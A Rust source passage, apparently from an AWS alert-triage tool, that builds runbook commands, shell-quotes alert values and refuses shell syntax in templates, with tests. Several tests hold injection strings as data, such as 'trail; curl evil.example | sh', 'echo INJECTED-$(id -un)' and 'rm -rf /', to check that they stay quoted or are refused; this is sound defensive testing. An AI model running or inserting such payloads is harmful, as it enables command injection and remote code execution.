    if let Some(f) = v.plain("function").map(|f| function_name(f).to_owned()) {
        v.set("function_name", Some(&f));
    }
    let previous = previous_guardrail_version(&v, corr);
    v.set("guardrail_previous_version", previous.as_deref());

    v.set("start", Some(&format_time(shifted(alert.time, -180))));
    v.set("end", Some(&format_time(shifted(alert.time, 60))));
    v.set(
        "lookback_start",
        Some(&format_time(shifted(alert.time, -60))),
    );
    v
}

// ----------------------------------------------------------------------------------- rendering

/// Quotes one word for a POSIX shell (sh, dash, bash, zsh), so the shell reads it back as
/// exactly that word. Words made only of characters that are never special stay bare, so
/// commands read naturally; a word with a single quote but nothing a double-quoted string
/// treats specially (`$`, `` ` ``, `\`, `"`, and `!`, history expansion in an interactive bash
/// or zsh) is double-quoted (`"Quotas[?contains(QuotaName, 'rpm')]"`); anything else is
/// single-quoted, an embedded single quote closed, escaped and reopened (`'it'\''s'`).
pub fn shell_quote(value: &str) -> String {
    let safe = |c: char| c.is_ascii_alphanumeric() || "@%+=:,./_-".contains(c);
    // zsh expands a word that starts with `=` (`=ls` is the path of ls).
    if !value.is_empty() && value.chars().all(safe) && !value.starts_with('=') {
        return value.to_owned();
    }
    if value.contains('\'') && !value.contains(['$', '`', '\\', '"', '!']) {
        return format!("\"{value}\"");
    }
    format!("'{}'", value.replace('\'', r"'\''"))
}

/// A command for a person to run: its words (`argv[0]` is the program) and the one line a
/// POSIX shell splits back into exactly those words, built once from them by [`shell_quote`]
/// on every word. The two cannot disagree: the fields are private and only [`Command::new`]
/// builds one. Renderers show [`Command::line`] as it is or not at all (see `render`).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Command {
    argv: Vec<String>,
    line: String,
}

impl Command {
    /// The command made of `argv`, or `None` for no words at all.
    pub fn new(argv: Vec<String>) -> Option<Command> {
        if argv.is_empty() {
            return None;
        }
        let line = argv
            .iter()
            .map(|w| shell_quote(w))
            .collect::<Vec<_>>()
            .join(" ");
        Some(Command { argv, line })
    }

    /// The words, as the program receives them.
    pub fn argv(&self) -> &[String] {
        &self.argv
    }

    /// The copy-ready line: every word shell-quoted, joined by single spaces.
    pub fn line(&self) -> &str {
        &self.line
    }
}

impl fmt::Display for Command {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.line)
    }
}

/// The words of a command template, quotes removed, `{placeholders}` still in them.
///
/// The template language is shell words without the shell: words are separated by blanks;
/// `'...'` keeps everything literally, `"..."` everything but `\"` and `\\`; a backslash
/// outside quotes keeps the next character. What would make a shell do more than run one
/// command (`;`, `&`, `|`, `(`, `)`, `$`, `` ` ``, outside single quotes) is refused, since the
/// line a person copies is rebuilt from these words and could not mean it; `<` and `>` are
/// ordinary characters (the `<new-value>` hints). Control characters are refused.
fn template_words(template: &str) -> Result<Vec<String>, String> {
    #[derive(PartialEq)]
    enum In {
        Blank,
        Word,
        Single,
        Double,
    }
    let mut words = Vec::new();
    let mut word = String::new();
    let mut state = In::Blank;
    let mut chars = template.chars();
    while let Some(c) = chars.next() {
        if c.is_control() && !(c == '\n' || c == '\t') {
            return Err(format!("control character {c:?} in the command"));
        }
        match state {
            In::Single => {
                if c == '\'' {
                    state = In::Word;
                } else if c == '\n' || c == '\t' {
                    return Err("a line break or tab inside quotes".to_owned());
                } else {
                    word.push(c);
                }
            }
            In::Double => match c {
                '"' => state = In::Word,
                '\\' => match chars.next() {
                    Some(n @ ('"' | '\\')) => word.push(n),
                    Some(n) if n.is_control() => {
                        return Err("a line break or tab inside quotes".to_owned());
                    }
                    Some(n) => {
                        word.push('\\');
                        word.push(n);
                    }
                    None => return Err("an unterminated double quote".to_owned()),
                },
                '$' | '`' => {
                    return Err(format!(
                        "`{c}` inside double quotes; put literal text in single quotes"
                    ));
                }
                '\n' | '\t' => return Err("a line break or tab inside quotes".to_owned()),
                c => word.push(c),
            },
            In::Blank | In::Word => match c {
                ' ' | '\t' | '\n' => {
                    if state == In::Word {
                        words.push(std::mem::take(&mut word));
                    }
                    state = In::Blank;
                }
                '\'' => state = In::Single,
                '"' => state = In::Double,
                '\\' => match chars.next() {
                    Some(n) if !n.is_control() => {
                        word.push(n);
                        state = In::Word;
                    }
                    _ => {
                        return Err("a backslash at the end of a line or of the command".to_owned());
                    }
                },
                ';' | '&' | '|' | '(' | ')' | '$' | '`' => {
                    return Err(format!(
                        "shell syntax `{c}`: a step is one command, shown as its words; quote literal text"
                    ));
                }
                c => {
                    word.push(c);
                    state = In::Word;
                }
            },
        }
    }
    match state {
        In::Single => Err("an unterminated single quote".to_owned()),
        In::Double => Err("an unterminated double quote".to_owned()),
        In::Word => {
            words.push(word);
            Ok(words)
        }
        In::Blank => Ok(words),
    }
}

/// Placeholders that stand for several words (or none): each must be a word of its own.
const MULTI_WORD: &[&str] = &["dimensions_flag", "statistics_flag"];

/// Percent-encodes everything but RFC 3986 unreserved characters.
fn url_encode(value: &str) -> String {
    let mut out = String::with_capacity(value.len());
    for byte in value.bytes() {
        if byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'_' | b'.' | b'~') {
            out.push(char::from(byte));
        } else {
            out.push_str(&format!("%{byte:02X}"));
        }
    }
    out
}

/// A `{name}` placeholder at the start of `text`: its name and the text after it. Anything
/// else that starts with `{` (JSON in a command) is literal.
fn placeholder(text: &str) -> Option<(&str, &str)> {
    let body = text.strip_prefix('{')?;
    let close = body.find('}')?;
    let name = body.get(..close)?;
    if name.is_empty() || !name.chars().all(|c| c.is_ascii_lowercase() || c == '_') {
        return None;
    }
    Some((name, body.get(close + 1..)?))
}

/// Fills `template`; `fill` turns a placeholder name into its text, `None` aborting.
fn expand(template: &str, mut fill: impl FnMut(&str) -> Option<String>) -> Option<String> {
    let mut out = String::with_capacity(template.len() + 32);
    let mut rest = template;
    while let Some(open) = rest.find('{') {
        let (before, from_brace) = rest.split_at(open);
        out.push_str(before);
        match placeholder(from_brace) {
            Some((name, after)) => {
                let text = fill(name)?;
                // An empty optional flag would leave a double space behind.
                rest = if text.is_empty() {
                    after.strip_prefix(' ').unwrap_or(after)
                } else {
                    after
                };
                out.push_str(&text);
            }
            None => {
                out.push('{');
                rest = from_brace.get(1..).unwrap_or("");
            }
        }
    }
    out.push_str(rest);
    Some(out)
}

fn hint(name: &str) -> String {
    PLACEHOLDERS
        .iter()
        .find(|(n, _)| *n == name)
        .map(|(_, h)| (*h).to_owned())
        .unwrap_or_else(|| format!("<{}>", name.replace('_', "-")))
}

/// The command a template stands for with `values` filled in: each template word becomes one
/// word (its placeholders replaced by masked values or visible `<hints>`), a multi-word value
/// as many words as it has. `None` only for a template [`validate_step`] would refuse.
fn render_command(template: &str, values: &Values) -> Option<Command> {
    let mut argv = Vec::new();
    for word in template_words(template).ok()? {
        if let Some((name, "")) = placeholder(&word)
            && MULTI_WORD.contains(&name)
        {
            match values.map.get(name) {
                Some(Value::Words(words)) => argv.extend(words.iter().cloned()),
                Some(Value::Plain(v)) => argv.push(v.clone()),
                None => argv.extend(hint(name).split_whitespace().map(str::to_owned)),
            }
            continue;
        }
        argv.push(expand(&word, |name| {
            Some(match values.map.get(name) {
                Some(Value::Plain(v)) => v.clone(),
                Some(Value::Words(w)) => w.join(" "),
                None => hint(name),
            })
        })?);
    }
    Command::new(argv)
}

/// A link only when every value is known: a console URL with a hole in it is worse than none.
fn render_link(template: &str, values: &Values) -> Option<String> {
    expand(template, |name| values.plain(name).map(url_encode))
}

fn glob_any(globs: &[String], value: &str) -> bool {
    globs
        .iter()
        .any(|g| wildmatch::WildMatch::new(g).matches(value))
}

fn fits(when: &When, alert: &Alert, corr: &Correlation) -> bool {
    let on_ok = match when.on {
        On::Any => true,
        On::Alarm => alert.alarm().is_some(),
        On::ApiCall => alert.api_call().is_some(),
        On::Config => alert.config().is_some(),
    };
    let (source, event_name) = match (alert.api_call(), corr.causes.first()) {
        (Some(c), _) => (Some(c.event_source.as_str()), Some(c.event_name.as_str())),
        (None, Some(cause)) => (
            Some(cause.event_source.as_str()),
            Some(cause.event_name.as_str()),
        ),
        (None, None) => (None, None),
    };
    let metrics = alert
        .alarm()
        .map(|a| a.metrics.as_slice())
        .unwrap_or_default();
    on_ok
        && (when.event_source.is_empty() || source.is_some_and(|s| glob_any(&when.event_source, s)))
        && (when.event_name.is_empty() || event_name.is_some_and(|e| glob_any(&when.event_name, e)))
        && (when.namespace.is_empty()
            || metrics
                .iter()
                .filter_map(|m| m.namespace.as_deref())
                .any(|ns| glob_any(&when.namespace, ns)))
        && (when.metric.is_empty() || metrics.iter().any(|m| glob_any(&when.metric, &m.name)))
}

/// The team's own runbook page for this kind: `{kind}` in the base URL is replaced, otherwise
/// the kind is appended as a path segment.
fn team_runbook_url(base: &str, kind: Kind) -> String {
    if base.contains("{kind}") {
        base.replace("{kind}", kind.as_str())
    } else {
        format!("{}/{}", base.trim_end_matches('/'), kind.as_str())
    }
}

/// A title's placeholders are filled as plain text (the renderers escape for their medium);
/// unknown ones show as `<placeholder>` like in commands.
fn render_title(template: &str, values: &Values) -> String {
    expand(template, |name| {
        Some(match values.map.get(name) {
            Some(Value::Plain(v)) => v.clone(),
            Some(Value::Words(w)) => w.join(" "),
            None => hint(name),
        })
    })
    .unwrap_or_else(|| template.to_owned())
}

fn make_step(
    action: StepAction,
    title: String,
    command: Option<Command>,
    link: Option<String>,
) -> RunbookStep {
    RunbookStep {
        action,
        title,
        command,
        link,
    }
}

/// Runbook steps for `kind` from the built-in playbooks; see [`steps`].
pub fn runbook(
    kind: Kind,
    alert: &Alert,
    correlation: &Correlation,
    runbook_base_url: Option<&str>,
) -> Vec<RunbookStep> {
    steps(&[&BUILTIN], kind, alert, correlation, runbook_base_url)
}

/// Runbook steps for `kind`, filled with values from the alert and its probable causes.
///
/// `sets` are tried in order and the first playbook for `kind` whose `when` holds gives the
/// steps: the matched route's override, then the configured set (a user file's playbooks
/// before the built-in ones). The team's runbook page (from the route's `runbook_base_url`)
/// comes first when there is one: it is the procedure the owners chose. Commands are for a
/// person to run; values are shell-quoted and unknown ones shown as `<placeholder>`.
pub fn steps(
    sets: &[&Runbooks],
    kind: Kind,
    alert: &Alert,
    correlation: &Correlation,
    runbook_base_url: Option<&str>,
) -> Vec<RunbookStep> {
    let values = collect_values(alert, correlation);
    let mut out = Vec::new();
    if let Some(base) = runbook_base_url.map(str::trim).filter(|b| !b.is_empty()) {
        out.push(make_step(
            StepAction::Console,
            format!("Follow the team runbook for {kind}"),
            None,
            Some(team_runbook_url(base, kind)),
        ));
    }
    let playbook = sets
        .iter()
        .flat_map(|set| set.playbooks(kind))
        .find(|p| fits(&p.when, alert, correlation));
    let Some(playbook) = playbook else {
        return out;
    };
    for step in &playbook.steps {
        if step
            .only_if
            .as_deref()
            .is_some_and(|name| !values.has(name))
            || step.unless.as_deref().is_some_and(|name| values.has(name))
        {
            continue;
        }
        let link = step.link.as_deref().and_then(|l| render_link(l, &values));
        // A console step is its link: with a value missing there is nothing to open.
        if step.action == StepAction::Console && link.is_none() {
            continue;
        }
        out.push(make_step(
            step.action,
            render_title(&step.title, &values),
            step.command
                .as_deref()
                .and_then(|c| render_command(c, &values)),
            link,
        ));
    }
    out
}

/// Console deep links for the alert: the alarm, the CloudTrail event (and the top probable
/// causes), and the IAM role, Lambda function, Bedrock guardrail, S3 bucket or Config rule
/// involved. A link is only given when its Region and identifier are known.
pub fn links(alert: &Alert, correlation: &Correlation) -> Vec<Link> {
    let values = collect_values(alert, correlation);
    let region = values.plain("region");
    let mut out: Vec<Link> = Vec::new();
    let mut push = |label: String, url: Option<String>| {
        if let Some(url) = url
            && !out.iter().any(|l| l.url == url)
        {
            out.push(Link { label, url });
        }
    };

    if let Some(alarm) = alert.alarm() {
        push(
            format!("CloudWatch alarm {}", alarm.name),
            region.map(|r| {
                format!(
                    "https://{r}.console.aws.amazon.com/cloudwatch/home?region={r}#alarmsV2:alarm/{}",
                    url_encode(&alarm.name)
                )
            }),
        );
    }
    let event_url = |event_id: &str, event_region: Option<&str>| {
        event_region.filter(|r| valid_region(r)).map(|r| {
            format!(
                "https://{r}.console.aws.amazon.com/cloudtrailv2/home?region={r}#/events/{}",
                url_encode(event_id)
            )
        })
    };
    if let Some(change) = alert.api_call() {
        push(
            format!("CloudTrail event {}", change.event_name),
            event_url(&change.event_id, change.region.as_deref().or(region)),
        );
    }
    for cause in correlation.causes.iter().take(3) {
        let url = cause
            .console_link
            .clone()
            .filter(|l| l.starts_with("https://"))
            .or_else(|| event_url(&cause.event_id, region));
        push(
            format!("CloudTrail event {} by {}", cause.event_name, cause.actor),
            url,
        );
    }
    if let Some(role) = values.plain("role") {
        push(
            format!("IAM role {role}"),
            Some(format!(
                "https://console.aws.amazon.com/iam/home#/roles/details/{}",
                url_encode(role)
            )),
        );
    }
    if let (Some(r), Some(function)) = (region, values.plain("function")) {
        let name = function_name(function);
        push(
            format!("Lambda function {name}"),
            Some(format!(
                "https://{r}.console.aws.amazon.com/lambda/home?region={r}#/functions/{}",
                url_encode(name)
            )),
        );
    }
    if let (Some(r), Some(id)) = (region, values.plain("guardrail_id")) {
        // The guardrail's own page is addressed by name and id; the name is usually not in
        // the event (CloudTrail hides it), so fall back to the guardrail list.
        let name = alert
            .api_call()
            .filter(|c| c.event_name.contains("Guardrail"))
            .and_then(|c| request_str(c, "name"))
            .filter(|n| is_real_value(n));
        let url = match name {
            Some(name) => format!(
                "https://{r}.console.aws.amazon.com/bedrock/home?region={r}#/guardrails/guardrail/{}/{}",
                url_encode(name),
                url_encode(id)
            ),
            None => {
                format!("https://{r}.console.aws.amazon.com/bedrock/home?region={r}#/guardrails")
            }
        };
        push(format!("Bedrock guardrail {id}"), Some(url));
    }
    if let Some(bucket) = values.plain("bucket") {
        push(
            format!("S3 bucket {bucket}"),
            Some(format!(
                "https://s3.console.aws.amazon.com/s3/buckets/{}?tab=permissions",
                url_encode(bucket)
            )),
        );
    }
    if let (Some(r), Some(rule)) = (region, values.plain("config_rule")) {
        push(
            format!("Config rule {rule}"),
            Some(format!(
                "https://{r}.console.aws.amazon.com/config/home?region={r}#/rules/details?configRuleName={}",
                url_encode(rule)
            )),
        );
    }
    out
}

#[cfg(test)]
#[allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    clippy::indexing_slicing
)]
mod tests {
    use super::*;
    use crate::model::{
        Actor, Alarm, AlarmState, AlarmType, AlertBody, ConfigChange, ConfigChangeKind, InputFamily,
    };
    use chrono::TimeZone;

    fn t0() -> DateTime<Utc> {
        Utc.with_ymd_and_hms(2025, 3, 4, 10, 30, 0)
            .single()
            .unwrap_or_default()
    }

    fn alarm_alert(ns: &str, metric: &str, dims: &[(&str, &str)]) -> Alert {
        Alert {
            id: "a-1".to_owned(),
            input: InputFamily::AlarmEventbridge,
            account: Some("123456789012".to_owned()),
            region: Some("us-east-1".to_owned()),
            time: t0(),
            body: AlertBody::Alarm(Alarm {
                name: "tool errors / prod".to_owned(),
                arn: None,
                description: None,
                alarm_type: AlarmType::Metric,
                state: AlarmState::Alarm,
                previous_state: Some(AlarmState::Ok),
                reason: String::new(),
                metrics: vec![MetricRef {
                    namespace: Some(ns.to_owned()),
                    name: metric.to_owned(),
                    dimensions: dims
                        .iter()
                        .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
                        .collect(),
                    stat: Some("Sum".to_owned()),
                    period: Some(60),
                }],
                expression: None,
                alarm_rule: None,
                triggering_alarms: Vec::new(),
                threshold: Some(1.0),
                comparison: None,
                recent_datapoints: Vec::new(),
                tags: BTreeMap::new(),
            }),
        }
    }

    fn api_alert(source: &str, name: &str, request: &[(&str, &str)]) -> Alert {
        Alert {
            id: "ev-1".to_owned(),
            input: InputFamily::Cloudtrail,
            account: Some("123456789012".to_owned()),
            region: Some("eu-west-1".to_owned()),
            time: t0(),
            body: AlertBody::ApiCall(Change {
                event_id: "3f1c0a2e-1111-2222-3333-444455556666".to_owned(),
                event_name: name.to_owned(),
                event_source: source.to_owned(),
                time: t0(),
                region: Some("eu-west-1".to_owned()),
                account: Some("123456789012".to_owned()),
                actor: Actor {
                    identity_type: Some("AssumedRole".to_owned()),
                    arn: Some("arn:aws:sts::123456789012:assumed-role/ops/mallory".to_owned()),
                    name: "ops/mallory".to_owned(),
                    role_arn: Some("arn:aws:iam::123456789012:role/ops".to_owned()),
                    session_name: Some("mallory".to_owned()),
                    invoked_by: None,
                },
                source_ip: None,
                user_agent: None,
                read_only: false,
                error_code: None,
                error_message: None,
                request: request
                    .iter()
                    .map(|(k, v)| ((*k).to_owned(), serde_json::Value::String((*v).to_owned())))
                    .collect(),
                resources: Vec::new(),
                facts: Default::default(),
            }),
        }
    }

    fn detach_cause() -> ProbableCause {
        ProbableCause {
            event_id: "9d8e7f60-aaaa-bbbb-cccc-ddddeeeeffff".to_owned(),
            event_name: "DetachRolePolicy".to_owned(),
            event_source: "iam.amazonaws.com".to_owned(),
            actor: "admin/alice".to_owned(),
            time: t0(),
            source_ip: None,
            user_agent: None,
            reason: "changed 4 min before the alarm".to_owned(),
            score: 90,
            resources: vec![
                "arn:aws:iam::123456789012:policy/tool-bedrock-invoke".to_owned(),
                "tool-role".to_owned(),
            ],
            console_link: None,
        }
    }

    fn commands(steps: &[RunbookStep]) -> Vec<String> {
        steps
            .iter()
            .filter_map(|s| s.command.as_ref().map(|c| c.line().to_owned()))
            .collect()
    }

    #[test]
    fn access_denied_after_detach_role_policy_fills_role_event_and_policy() {
        let alert = alarm_alert("AWS/Lambda", "Errors", &[("FunctionName", "tool-fn")]);
        let corr = Correlation {
            causes: vec![detach_cause()],
            resource_roles: ["arn:aws:iam::123456789012:role/tool-role".to_owned()]
                .into_iter()
                .collect(),
            ..Correlation::default()
        };
        let steps = runbook(Kind::AccessDenied, &alert, &corr, None);
        let cmds = commands(&steps);
        assert_eq!(
            cmds,
            vec![
                "aws iam list-attached-role-policies --role-name tool-role".to_owned(),
                "aws cloudtrail lookup-events --lookup-attributes AttributeKey=EventId,AttributeValue=9d8e7f60-aaaa-bbbb-cccc-ddddeeeeffff --region us-east-1".to_owned(),
                "aws iam get-policy --policy-arn arn:aws:iam::123456789012:policy/tool-bedrock-invoke".to_owned(),
                "aws iam attach-role-policy --role-name tool-role --policy-arn arn:aws:iam::123456789012:policy/tool-bedrock-invoke".to_owned(),
            ]
        );
        assert!(
            steps
                .iter()
                .any(|s| s.title.starts_with("Fix (run by a person)"))
        );
        assert_eq!(
            steps.get(1).and_then(|s| s.link.clone()).as_deref(),
            Some(
                "https://us-east-1.console.aws.amazon.com/cloudtrailv2/home?region=us-east-1#/events/9d8e7f60-aaaa-bbbb-cccc-ddddeeeeffff"
            )
        );
    }

    #[test]
    fn bedrock_throttle_steps_name_the_model() {
        let alert = alarm_alert(
            "AWS/Bedrock",
            "InvocationThrottles",
            &[("ModelId", "us.anthropic.claude-3-5-sonnet-20241022-v2:0")],
        );
        let cmds = commands(&runbook(
            Kind::ThrottleSpike,
            &alert,
            &Correlation::default(),
            None,
        ));
        assert!(cmds.iter().any(|c| {
            c.starts_with("aws service-quotas list-service-quotas --service-code bedrock --query")
        }));
        assert!(
            cmds.iter().any(|c| c.contains(
                "--metric-name InvocationThrottles --dimensions Name=ModelId,Value=us.anthropic.claude-3-5-sonnet-20241022-v2:0 --start-time 2025-03-04T07:30:00Z --end-time 2025-03-04T11:30:00Z"
            )),
            "{cmds:#?}"
        );
        // No cause: no "see the change" step with a hole in it.
        assert!(!cmds.iter().any(|c| c.contains("<event-id>")));
    }

    #[test]
    fn injection_surge_names_guardrail_and_version_from_dimensions() {
        let alert = alarm_alert(
            "AWS/Bedrock/Guardrails",
            "InvocationsIntervened",
            &[
                (
                    "GuardrailArn",
                    "arn:aws:bedrock:us-east-1:123456789012:guardrail/abcd1234efgh",
                ),
                ("GuardrailVersion", "3"),
                ("GuardrailContentSource", "Input"),
            ],
        );
        let cmds = commands(&runbook(
            Kind::InjectionSurge,
            &alert,
            &Correlation::default(),
            None,
        ));
        assert!(
            cmds.iter().any(|c| c.starts_with(
                "aws bedrock get-guardrail --guardrail-identifier abcd1234efgh --guardrail-version 3"
            )),
            "{cmds:#?}"
        );
        // The chart uses the alarm's own dimensions, each value quoted as needed.
        assert!(
            cmds.iter().any(|c| c.contains("--namespace AWS/Bedrock/Guardrails --metric-name InvocationsIntervened --dimensions Name=GuardrailArn,Value=arn:aws:bedrock:us-east-1:123456789012:guardrail/abcd1234efgh Name=GuardrailContentSource,Value=Input Name=GuardrailVersion,Value=3 --start-time")
                && c.contains("--period 60 --statistics Sum --region us-east-1")),
            "{cmds:#?}"
        );
    }

    #[test]
    fn stop_logging_steps_check_and_restart_the_trail() {
        let alert = api_alert(
            "cloudtrail.amazonaws.com",
            "StopLogging",
            &[("name", "org-trail")],
        );
        let cmds = commands(&runbook(
            Kind::AuditTampering,
            &alert,
            &Correlation::default(),
            None,
        ));
        assert_eq!(
            cmds.first().map(String::as_str),
            Some("aws cloudtrail get-trail-status --name org-trail --region eu-west-1")
        );
        assert!(cmds.contains(
            &"aws cloudtrail start-logging --name org-trail --region eu-west-1".to_owned()
        ));
        assert!(
            cmds.iter()
                .any(|c| c.contains("AttributeKey=Username,AttributeValue=mallory"))
        );
    }

    #[test]
    fn missing_values_are_visible_placeholders() {
        let alert = api_alert("cloudtrail.amazonaws.com", "StopLogging", &[]);
        let cmds = commands(&runbook(
            Kind::AuditTampering,
            &alert,
            &Correlation::default(),
            None,
        ));
        assert_eq!(
            cmds.first().map(String::as_str),
            Some("aws cloudtrail get-trail-status --name '<trail-name>' --region eu-west-1")
        );
        let alarm = alarm_alert("AWS/Lambda", "Errors", &[]);
        let cmds = commands(&runbook(
            Kind::AccessDenied,
            &alarm,
            &Correlation::default(),
            None,
        ));
        assert!(
            cmds.iter()
                .any(|c| c == "aws iam list-attached-role-policies --role-name '<role-name>'"),
            "{cmds:#?}"
        );
    }

    #[test]
    fn event_values_are_shell_quoted() {
        let alert = api_alert(
            "cloudtrail.amazonaws.com",
            "StopLogging",
            &[("name", "trail; curl evil.example | sh")],
        );
        let cmds = commands(&runbook(
            Kind::AuditTampering,
            &alert,
            &Correlation::default(),
            None,
        ));
        assert_eq!(
            cmds.first().map(String::as_str),
            Some(
                "aws cloudtrail get-trail-status --name 'trail; curl evil.example | sh' --region eu-west-1"
            )
        );
        assert_eq!(shell_quote("it's"), "\"it's\"");
        assert_eq!(shell_quote("it's $HOME"), r"'it'\''s $HOME'");
        assert_eq!(shell_quote("=ls"), "'=ls'");
        assert_eq!(shell_quote("$(id)"), "'$(id)'");
        assert_eq!(shell_quote("`id`"), "'`id`'");
        assert_eq!(shell_quote(""), "''");
        assert_eq!(
            shell_quote("arn:aws:iam::1:role/x"),
            "arn:aws:iam::1:role/x"
        );
    }

    fn argv_of(steps: &[RunbookStep], prefix: &str) -> Vec<String> {
        steps
            .iter()
            .filter_map(|s| s.command.as_ref())
            .find(|c| c.line().starts_with(prefix))
            .map(|c| c.argv().to_vec())
            .unwrap_or_else(|| panic!("no command starting {prefix:?}"))
    }

    #[test]
    fn the_issue_payload_stays_one_word_of_a_structured_command() {
        // Issue 12: this `FunctionName` printed INJECTED-root when its command was pasted.
        let payload = "token='arn:;echo INJECTED-$(id -un);'";
        let alert = alarm_alert("AWS/Lambda", "Errors", &[("FunctionName", payload)]);
        let steps = runbook(Kind::ErrorSpike, &alert, &Correlation::default(), None);
        // Masked as a value (today's patterns leave it as it is), then one word.
        let value = masked(payload);
        let argv = argv_of(&steps, "aws lambda get-function-configuration");
        assert_eq!(
            argv[..5],
            [
                "aws",
                "lambda",
                "get-function-configuration",
                "--function-name",
                value.as_str()
            ]
        );
        let chart = argv_of(&steps, "aws cloudwatch get-metric-statistics");
        assert!(
            chart.contains(&format!("Name=FunctionName,Value={value}")),
            "one word per dimension: {chart:#?}"
        );
        for step in &steps {
            if let Some(c) = &step.command {
                assert_eq!(
                    Command::new(c.argv().to_vec()).as_ref(),
                    Some(c),
                    "the line is built from the words"
                );
                // The only unquoted text is the fixed words; the payload sits inside quotes.
                assert!(!c.line().contains(payload), "{}", c.line());
            }
        }
    }

    #[test]
    fn values_are_masked_before_they_are_quoted() {
        let alert = alarm_alert(
            "AWS/Lambda",
            "Errors",
            &[(
                "FunctionName",
                "fn password=hunter2hunter2 AKIAIOSFODNN7EXAMPLE",
            )],
        );
        let steps = runbook(Kind::ErrorSpike, &alert, &Correlation::default(), None);
        let argv = argv_of(&steps, "aws lambda get-function-configuration");
        assert_eq!(
            argv[4],
            "fn password=[REDACTED:secret] [REDACTED:aws-access-key]"
        );
        assert!(
            steps
                .iter()
                .filter_map(|s| s.command.as_ref())
                .all(|c| !c.line().contains("hunter2") && !c.line().contains("AKIA"))
        );
    }

    #[test]
    fn multi_word_values_are_words_of_their_own() {
        let alert = alarm_alert(
            "AWS/Lambda",
            "Errors",
            &[("FunctionName", "a b"), ("Resource", "a b:live")],
        );
        let steps = runbook(Kind::ErrorSpike, &alert, &Correlation::default(), None);
        let chart = argv_of(&steps, "aws cloudwatch get-metric-statistics");
        let at = chart
            .iter()
            .position(|w| w == "--dimensions")
            .expect("flag");
        assert_eq!(
            chart[at..at + 3],
            [
                "--dimensions",
                "Name=FunctionName,Value=a b",
                "Name=Resource,Value=a b:live"
            ]
        );
        let stat = chart
            .iter()
            .position(|w| w == "--statistics")
            .expect("stat");
        assert_eq!(chart[stat + 1], "Sum");
        let line = steps
            .iter()
            .filter_map(|s| s.command.as_ref())
            .find(|c| c.line().starts_with("aws cloudwatch get-metric-statistics"))
            .expect("chart")
            .line()
            .to_owned();
        assert!(
            line.contains("--dimensions 'Name=FunctionName,Value=a b' 'Name=Resource,Value=a b:live' --start-time"),
            "{line}"
        );
    }

    #[test]
    fn template_words_follow_quotes_and_refuse_shell_syntax() {
        assert_eq!(
            template_words(r#"aws x --query "A[?n=='r m']" --j '{"a":"$b"}' p\ q '' {region}"#)
                .unwrap(),
            [
                "aws",
                "x",
                "--query",
                "A[?n=='r m']",
                "--j",
                r#"{"a":"$b"}"#,
                "p q",
                "",
                "{region}"
            ]
        );
        assert_eq!(
            template_words("aws x file://<policy.json>").unwrap(),
            ["aws", "x", "file://<policy.json>"]
        );
        for bad in [
            "aws x; rm -rf /",
            "aws x | sh",
            "aws x && y",
            "aws x $(id)",
            "aws x `id`",
            "aws x \"$HOME\"",
            "aws x 'open",
            "aws x \"open",
            "aws x \\",
        ] {
            assert!(template_words(bad).is_err(), "{bad}");
        }
    }

    #[test]
    fn a_user_command_with_shell_syntax_or_a_split_flag_is_refused() {
        let err = Runbooks::from_yaml(
            "runbooks:\n  access_denied:\n    - steps:\n        - do: check\n          title: x\n          command: aws iam get-role --role-name {role} | jq .\n",
        )
        .unwrap_err();
        assert_eq!(err.path(), "runbooks.access_denied[0].steps[0].command");
        assert!(err.message().contains("shell syntax `|`"), "{err}");
        let err = Runbooks::from_yaml(
            "runbooks:\n  access_denied:\n    - steps:\n        - do: check\n          title: x\n          command: aws cloudwatch get-metric-statistics x{dimensions_flag}\n",
        )
        .unwrap_err();
        assert!(err.message().contains("must be a word of its own"), "{err}");
    }

    #[test]
    fn unknown_values_are_whole_quoted_hint_words() {
        let alert = alarm_alert("AWS/Lambda", "Errors", &[]);
        let steps = runbook(Kind::AccessDenied, &alert, &Correlation::default(), None);
        assert_eq!(
            argv_of(&steps, "aws iam list-attached-role-policies"),
            [
                "aws",
                "iam",
                "list-attached-role-policies",
                "--role-name",
                "<role-name>"
            ]
        );
    }

    #[test]
    fn braces_inside_values_are_not_expanded_again() {
        let alert = api_alert(
            "cloudtrail.amazonaws.com",
            "StopLogging",
            &[("name", "{region}")],
        );
        let cmds = commands(&runbook(
            Kind::AuditTampering,
            &alert,
            &Correlation::default(),
            None,
        ));
        assert_eq!(
            cmds.first().map(String::as_str),
            Some("aws cloudtrail get-trail-status --name '{region}' --region eu-west-1")
        );
    }

    #[test]
    fn json_in_a_template_is_left_alone() {
        let alert = api_alert(
            "cloudtrail.amazonaws.com",
            "PutEventSelectors",
            &[("trailName", "org-trail")],
        );
        let cmds = commands(&runbook(
            Kind::AuditTampering,
            &alert,
            &Correlation::default(),
            None,
        ));
        assert!(cmds.iter().any(|c| c.contains(
            "--trail-name org-trail --event-selectors '[{\"ReadWriteType\":\"All\",\"IncludeManagementEvents\":true}]'"
        )), "{cmds:#?}");
    }

    #[test]
    fn public_lambda_permission_fix_names_the_statement() {
        let alert = api_alert(
            "lambda.amazonaws.com",
            "AddPermission20150331v2",
            &[
                ("functionName", "stratus-func"),
                ("statementId", "backdoor"),
            ],
        );
        let cmds = commands(&runbook(
            Kind::PublicExposure,
            &alert,
            &Correlation::default(),
            None,
        ));
        assert!(cmds.contains(
            &"aws lambda remove-permission --function-name stratus-func --statement-id backdoor --region eu-west-1".to_owned()
        ));
    }

    #[test]
    fn denied_api_call_simulates_the_action_without_api_version() {
        let alert = api_alert("lambda.amazonaws.com", "GetFunction20150331v2", &[]);
        let cmds = commands(&runbook(
            Kind::AccessDenied,
            &alert,
            &Correlation::default(),
            None,
        ));
        assert!(cmds.contains(
            &"aws iam simulate-principal-policy --policy-source-arn arn:aws:iam::123456789012:role/ops --action-names lambda:GetFunction".to_owned()
        ), "{cmds:#?}");
    }

    #[test]
    fn statistics_flags_follow_the_alarm_statistic() {
        let words = |s: &str| statistics_flag(s).map(|w| w.join(" "));
        assert_eq!(words("SUM").as_deref(), Some("--statistics Sum"));
        assert_eq!(words("Average").as_deref(), Some("--statistics Average"));
        assert_eq!(words("p99").as_deref(), Some("--extended-statistics p99"));
        // Two words: the statistic is one word whatever it holds, quoted with the line.
        assert_eq!(
            statistics_flag("tm(10%:90%)"),
            Some(vec![
                "--extended-statistics".to_owned(),
